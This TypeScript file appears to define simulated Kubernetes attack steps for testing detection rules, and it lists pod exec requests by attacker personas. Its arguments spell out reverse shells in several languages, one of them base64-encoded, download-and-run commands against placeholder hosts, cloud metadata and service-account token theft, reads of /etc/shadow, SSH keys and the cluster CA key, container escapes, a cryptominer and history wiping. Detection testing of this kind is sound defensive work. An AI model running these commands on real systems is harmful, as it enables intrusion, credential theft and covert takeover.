import { asks, attack } from '../ask.ts';
import { core } from '../places.ts';
import { inTerminal, webSocket, words } from '../session.ts';
import type { AttackStep, Step } from '../step.ts';
import { airflow, basket, basketKubectl, nadia, nadiaK9s, pavel, runner } from './attackers.ts';

const gateway = `${core('orders')}/pods/gateway-77c-x2v1q`;
const payments = `${core('orders')}/pods/payments-0`;
const cart = `${core('orders')}/pods/cart-6d5f-abcde`;
const dns = `${core('kube-system')}/pods/coredns-5d78c9869d-7xk2p`;
const python = asks('airflow', 'kubernetes-asyncio/30.1.0');
const sh = (line: string): readonly string[] => ['sh', '-c', line];
const run = (pod: string, ...parts: readonly string[]): string =>
  `${pod}/exec?${words(parts)}&container=main&stdout=true&stderr=true`;
const line = (what: string, ...parts: readonly string[]): Step => nadia.open(what, run(gateway, ...parts));
const byBasket = (what: string, ...parts: readonly string[]): Step => basketKubectl.open(what, run(payments, ...parts));
const socket = (what: string, pod: string, ...parts: readonly string[]): Step =>
  runner.get(what, run(pod, ...parts), { headers: webSocket });

/** Sessions in containers, and what is typed there. */
export const shellSteps: readonly AttackStep[] = [
  ...attack(
    'execution',
    ['EX01 EX04', nadia.open('a shell with a terminal', inTerminal(gateway, '/bin/bash'))],
    [
      'EX01 EX04',
      nadiaK9s.open(
        'a shell of a desktop tool',
        inTerminal(cart, 'sh', '-c', 'command -v bash >/dev/null && exec bash || exec sh'),
      ),
    ],
    ['EX01', basketKubectl.open('by the account of the application', run(payments, 'id'))],
    ['EX01', python.get('by a web socket of Python', run(cart, 'uname', '-a'), { headers: webSocket })],
    ['EX01', nadia.open('attached to a process', `${gateway}/attach?container=main&stdin=true&stdout=true&tty=true`)],
    ['EX01', runner.get('attached by a web socket', `${cart}/attach?container=main&stdout=true`, { headers: webSocket })],
    ['EX02', nadia.open('in the name service of the cluster', run(dns, 'cat', '/etc/coredns/Corefile'))],
    [
      'EX02',
      airflow.open(
        'in a pod of the control plane',
        run(`${core('kube-system')}/pods/etcd-cp-1`, 'etcdctl', 'get', '/registry/secrets', '--prefix', '--keys-only'),
      ),
    ],
    ['EX03', pavel.open('refused', run(cart, 'ls'))],
    ['EX03', pavel.open('refused, in the system', run(dns, 'sh'))],
    ['EX03', basket.get('refused, elsewhere, by curl', run(`${core('billing')}/pods/ledger-0`, 'id'))],
    ['EX04', line('a scanner of the network', ...sh('nmap -sT -p 1-1024 10.96.0.0/24'))],
    ['EX04', line('a package', 'apk', 'add', '--no-cache', 'nmap', 'bind-tools')],
    ['EX04', line('an interpreter', 'python3', '-c', 'import os; print(os.listdir("/"))')],
    ['EX04', socket('a shell over a web socket', cart, 'bash')],
    ['EX05', line('a download', 'curl', '-fsSL', 'https://files.example.net/k', '-o', '/tmp/k')],
    ['EX05', line('a download into a shell', ...sh('wget -qO- http://198.51.100.4/i.sh | sh'))],
    [
      'EX05',
      byBasket('a download by the application', ...sh('cd /tmp; curl -k -O http://192.0.2.55:8000/chisel; chmod +x chisel')),
    ],
    [
      'EX05',
      line(
        'a download by an interpreter',
        'python',
        '-c',
        'import urllib.request as u;u.urlretrieve("http://192.0.2.9/a","/tmp/a")',
      ),
    ],
    ['EX06', line('a reverse shell of bash', 'bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/9001 0>&1')],
    ['EX06', line('a reverse shell of netcat', 'nc', '198.51.100.7', '4444', '-e', '/bin/sh')],
    ['EX06', line('a pipe and netcat', ...sh('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f'))],
    [
      'EX06',
      line(
        'a reverse shell of Python',
        'python3',
        '-c',
        'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")',
      ),
    ],
    [
      'EX06',
      line(
        'a reverse shell of Perl',
        'perl',
        '-e',
        'use Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(80,inet_aton($i)));exec("/bin/sh -i");',
      ),
    ],
    ['EX06', line('socat', ...sh('socat tcp-connect:198.51.100.7:443 exec:"bash -li",pty,stderr,setsid,sigint,sane'))],
    ['EX06', line('a reverse shell of PHP', 'php', '-r', '$s=fsockopen("198.51.100.7",443);exec("/bin/sh -i <&3 >&3 2>&3");')],
    [
      'EX06 EX04',
      line('one in base64', ...sh('echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvOTAwMSAwPiYx | base64 -d | bash')),
    ],
    [
      'EX07',
      byBasket('credentials of the machine', 'curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
    ],
    [
      'EX07',
      line(
        'a token of the machine',
        'curl',
        '-H',
        'Metadata-Flavor: Google',
        'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      ),
    ],
    ['EX07', line('its address as a number', 'wget', '-qO-', 'http://2852039166/latest/user-data')],
    ['EX07', line('its address in hex', ...sh('curl http://0xa9fea9fe/metadata/identity?api-version=2018-02-01'))],
    ['EX07', line('its address in IPv6', 'curl', 'http://[fd00:ec2::254]/latest/meta-data/')],
    ['EX07', line('the credentials of a task', ...sh('curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'))],
    ['EX08', line('passwords of the machine', 'cat', '/etc/shadow')],
    ['EX08', line('keys of a person', ...sh('cat ~/.ssh/id_rsa /root/.ssh/id_ed25519'))],
    ['EX08', line('environment of the first process', ...sh("cat /proc/1/environ | tr '\\0' '\\n'"))],
    ['EX08', line('keys of a cloud', 'cat', '/root/.aws/credentials')],
    ['EX08', line('the file of an administrator', 'cat', '/host/etc/kubernetes/admin.conf')],
    ['EX08', line('keys of the control plane', ...sh('ls -la /etc/kubernetes/pki; cat /etc/kubernetes/pki/ca.key'))],
    ['EX08', line('the credentials of the kubelet', 'cat', '/var/lib/kubelet/pki/kubelet-client-current.pem')],
    ['EX08', line('passwords of registries', 'cat', '/root/.docker/config.json')],
    ['EX08 EX04', byBasket('what the environment holds', ...sh('env | grep -i -E "pass|key|token"'))],
    ['EX09', byBasket('the token of the account', 'cat', '/var/run/secrets/kubernetes.io/serviceaccount/token')],
    ['EX09', line('the same by the short path', ...sh('T=$(cat /run/secrets/kubernetes.io/serviceaccount/token); echo $T'))],
    ['EX09', line('the token for a cloud', 'cat', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token')],
    ['EX09', line('the token for another cloud', 'head', '-c', '4096', '/var/run/secrets/azure/tokens/azure-identity-token')],
    [
      'EX09',
      socket('the token over a web socket', payments, 'cat', '/var/run/secrets/kubernetes.io/serviceaccount/..data/token'),
    ],
    [
      'EX09',
      line(
        'used at once',
        ...sh(
          'curl -k -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default/api/v1/secrets',
        ),
      ),
    ],
    ['EX10', nadia.open('kubectl cp from a pod', run(gateway, 'tar', 'cf', '-', '/var/lib/app/data'))],
    [
      'EX10',
      nadia.open('kubectl cp into a pod', `${gateway}/exec?${words(['tar', '-xmf', '-', '-C', '/tmp'])}&stdin=true&stdout=true`),
    ],
    ['EX10', nadia.open('kubectl cp that resumes', run(gateway, 'sh', '-c', 'tar cf - /data | tail -c+1'))],
    ['EX11', nadia.open('a port of a database', `${core('production')}/pods/db-0/portforward?ports=5432`)],
    [
      'EX11',
      runner.get('a port by a web socket', `${payments}/portforward`, {
        headers: { ...webSocket, 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' },
      }),
    ],
    [
      'EX11',
      asks('nadia', 'Lens/2024.9 (darwin)').open(
        'a port by a desktop tool',
        `${core('monitoring')}/pods/prometheus-0/portforward`,
      ),
    ],
    ['EX04 N33', line('out of the container', 'nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', '--', 'bash')],
    ['EX04 EX08', line('the root of the machine', 'chroot', '/host', '/bin/bash', '-c', 'crontab -l')],
    ['EX04 EX08', line('the socket of the engine', ...sh('curl --unix-socket /var/run/docker.sock http://x/containers/json'))],
    ['N33', nadia.open('in a pod that is privileged', run(`${core('kube-system')}/pods/node-agent-1`, 'hostname'))],
    ['N31', nadia.open('in many pods', `${core('orders')}/pods/batch-{n}/exec?command=hostname&stdout=true`, { times: 12 })],
    ['N29 EX04', line('a miner', ...sh('nohup /tmp/xmrig -o stratum+tcp://pool.example.net:3333 -u 4A -k &'))],
    ['EX04', line('the traces in the shell', ...sh('history -c; unset HISTFILE; rm -f /root/.bash_history'))],
  ),
  ...attack(
    'containers of one’s own',
    [
      'EX12',
      nadia.strategic('kubectl debug with a target', `${gateway}/ephemeralcontainers`, {
        spec: {
          ephemeralContainers: [{ name: 'debugger-abc', image: 'busybox', stdin: true, tty: true, targetContainerName: 'main' }],
        },
      }),
    ],
    [
      'EX12',
      nadia.strategic('one with a toolbox', `${payments}/ephemeralcontainers`, {
        spec: {
          ephemeralContainers: [{ name: 'net', image: 'nicolaka/netshoot:v0.13', command: ['tcpdump', '-i', 'any', '-w', '-'] }],
        },
      }),
    ],
    [
      'EX12 PE01',
      nadia.strategic('one that is privileged', `${cart}/ephemeralcontainers`, {
        spec: { ephemeralContainers: [{ name: 'p', image: 'alpine', securityContext: { privileged: true } }] },
      }),
    ],
    [
      'EX12 EX16',
      pavel.strategic('one, refused', `${cart}/ephemeralcontainers`, {
        spec: { ephemeralContainers: [{ name: 'q', image: 'alpine' }] },
      }),
    ],
  ),
];
